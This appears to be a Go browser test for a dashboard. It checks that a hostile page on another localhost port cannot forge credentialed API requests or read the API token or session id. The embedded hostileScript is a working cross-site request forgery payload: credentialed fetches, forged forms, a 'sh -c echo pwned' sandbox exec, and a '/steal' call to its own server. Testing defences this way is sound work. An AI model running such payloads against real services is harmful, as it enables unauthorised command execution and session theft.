package dashboard_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"hearth/appliance/appliancetest"
	"hearth/client"
)

// attacker is a web server on another port of 127.0.0.1, the hostile
// page's own origin. It records every request the browser sends it.
type attacker struct {
	url  string
	mu   sync.Mutex
	seen []string // each request's line and headers
}

func startAttacker(t *testing.T) *attacker {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	a := &attacker{url: "http://" + ln.Addr().String()}
	srv := &http.Server{Handler: a, ReadHeaderTimeout: 10 * time.Second}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return a
}

func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s\n", r.Method, r.URL)
	r.Header.Write(&b)
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
	b.Write(body)
	a.mu.Lock()
	a.seen = append(a.seen, b.String())
	a.mu.Unlock()
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	io.WriteString(w, `<!doctype html><title>a page of another origin</title><iframe name="sink"></iframe>`)
}

func (a *attacker) received() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return strings.Join(a.seen, "\n")
}

// hostileScript is what the page of another origin runs once the user
// signed in to the dashboard in the same browser: it tries to act on the
// API with the browser's cookie (fetch with credentials, text/plain and
// JSON; forms, text/plain and urlencoded) and to learn a credential
// (document.cookie, its localStorage, the API's answers, what its own
// server is sent). It
// returns all it could see.
const hostileScript = `(async (hearth) => {
  const seen = { cookie: document.cookie, storage: JSON.stringify({ ...localStorage }), results: [] };
  const attempt = async (name, url, init) => {
    try {
      const r = await fetch(url, init);
      let text = '';
      try { text = await r.text(); } catch (e) { text = 'unreadable: ' + e.message; }
      seen.results.push(name + ': ' + r.type + ' ' + r.status + ' ' + text);
    } catch (e) {
      seen.results.push(name + ': ' + e.message);
    }
  };
  const plain = (body) => ({ method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body });
  const json = (body) => ({ method: 'POST', mode: 'cors', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body });
  const credits = '{"usd":100}', exec = '{"argv":["sh","-c","echo pwned > /tmp/pwned"]}';
  await attempt('text/plain credits', hearth + '/v1/credits', plain(credits));
  await attempt('text/plain exec', hearth + '/v1/sandboxes/victim/exec', plain(exec));
  await attempt('json credits', hearth + '/v1/credits', json(credits));
  await attempt('json exec', hearth + '/v1/sandboxes/victim/exec', json(exec));
  await attempt('read credits', hearth + '/v1/credits', { credentials: 'include' });
  await attempt('read credits, no-cors', hearth + '/v1/credits', { mode: 'no-cors', credentials: 'include' });
  await attempt('own server', '/steal', { credentials: 'include' });
  // Forms: a text/plain form whose one field makes a JSON body, and an
  // urlencoded one, each into the frame; the page then tries to read it.
  const submit = (action, enctype, name, value) => new Promise((done) => {
    const f = document.createElement('form');
    Object.assign(f, { method: 'POST', action, enctype, target: 'sink' });
    const i = document.createElement('input');
    Object.assign(i, { type: 'hidden', name, value });
    f.append(i);
    document.body.append(f);
    const frame = document.querySelector('iframe');
    const t = setTimeout(() => done('no load'), 5000);
    frame.onload = () => {
      clearTimeout(t);
      try { done(frame.contentDocument.body.innerText); } catch (e) { done('unreadable: ' + e.message); }
    };
    f.submit();
  });
  seen.results.push('text/plain form credits: ' + await submit(hearth + '/v1/credits', 'text/plain', '{"usd":100,"x":"', '"}'));
  seen.results.push('text/plain form exec: ' + await submit(hearth + '/v1/sandboxes/victim/exec', 'text/plain', '{"argv":["sh","-c","echo pwned > /tmp/pwned"],"x":"', '"}'));
  seen.results.push('urlencoded form credits: ' + await submit(hearth + '/v1/credits', 'application/x-www-form-urlencoded', 'usd', '100'));
  return JSON.stringify(seen);
})(%s)`

// TestHostileCrossOriginBrowser: in a real Chromium, after the user
// signed in to the dashboard, a page served on another port of
// 127.0.0.1, open in the same browser, can neither act on the API (no
// credits added, no command run in a sandbox) nor learn the API token or
// the browser's session id (not in document.cookie, not in any answer it
// can read, not in any request its own server received).
func TestHostileCrossOriginBrowser(t *testing.T) {
	ctx := browser(t)
	cfg := daemonConfig(t)
	cfg.Sandbox.Agent = appliancetest.Agent(t)
	cfg.Sandbox.DefaultImage = "tiny"
	appliancetest.AddTinyImage(t, filepath.Join(cfg.StateDir, "images"))
	d := startDaemon(t, cfg)
	c := client.New(cfg.SocketPath())
	bg := context.Background()
	if _, err := c.CreateSandbox(bg, client.CreateSandboxRequest{Id: "victim", Session: "s1"}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.DestroySandbox(context.Background(), "victim") })

	base := signIn(t, ctx, d)
	waitFor(t, ctx, 10*time.Second, "the dashboard signed in", `document.getElementById('conn').innerText === 'connected'`)
	session := eval[string](t, ctx, `localStorage.getItem('hearth_session')`)
	if len(session) < 32 {
		t.Fatalf("the dashboard holds no session (%q)", session)
	}

	// Nothing a browser attaches by itself to requests for any port of
	// the host: no cookie at all.
	cookies := chromedp.Func(func(ctx context.Context, tgt *chromedp.Target) error {
		res, err := cdp.Call(ctx, tgt, network.GetCookies, network.GetCookiesParams{URLs: []string{base + "/", "http://127.0.0.1:1/"}})
		if err == nil && len(res.Cookies) > 0 {
			err = fmt.Errorf("the browser holds cookies for the host after signing in: %+v", res.Cookies[0])
		}
		return err
	})
	do(t, ctx, 10*time.Second, "the browser's cookies", cookies)

	evil := startAttacker(t)
	page := newWindow(t, ctx)
	do(t, page, 20*time.Second, "open the page of another origin", chromedp.Navigate(evil.url+"/"))
	seen := eval[string](t, page, fmt.Sprintf(hostileScript, js(base)))
	t.Logf("the hostile page saw: %s", seen)
	received := evil.received()
	t.Logf("the hostile page's server received:\n%s", received)

	if n := strings.Count(seen, `: `); n < 10 || !strings.Contains(received, "GET /steal") {
		t.Fatalf("the hostile page made %d of its 10 attempts, its server saw /steal: %v", n, strings.Contains(received, "GET /steal"))
	}
	for what, secret := range map[string]string{"the API token": d.Token(), "the session id": session} {
		if strings.Contains(seen, secret) {
			t.Errorf("the hostile page saw %s", what)
		}
		if strings.Contains(received, secret) {
			t.Errorf("the hostile page's server received %s", what)
		}
	}
	if cr, err := c.Credits(bg); err != nil || cr.Available != 0 {
		t.Errorf("credits = %+v, %v; want none added", cr, err)
	}
	var out bytes.Buffer
	if st, err := c.Exec(bg, "victim", client.ExecRequest{Argv: []string{"sh", "-c", "cat /tmp/pwned 2>&1"}}, &out, io.Discard); err != nil || st.Code == 0 {
		t.Errorf("the attack's file in the sandbox: exit %+v, %v, %q; want none", st, err, out.String())
	}

	// The dashboard itself still works in the same browser.
	if got := eval[float64](t, ctx, `import('/ui/api.js').then((api) => api.post('/v1/credits', {usd: 1})).then((c) => c.available)`); got != 1 {
		t.Errorf("the dashboard's own POST: $%v available, want $1", got)
	}
}
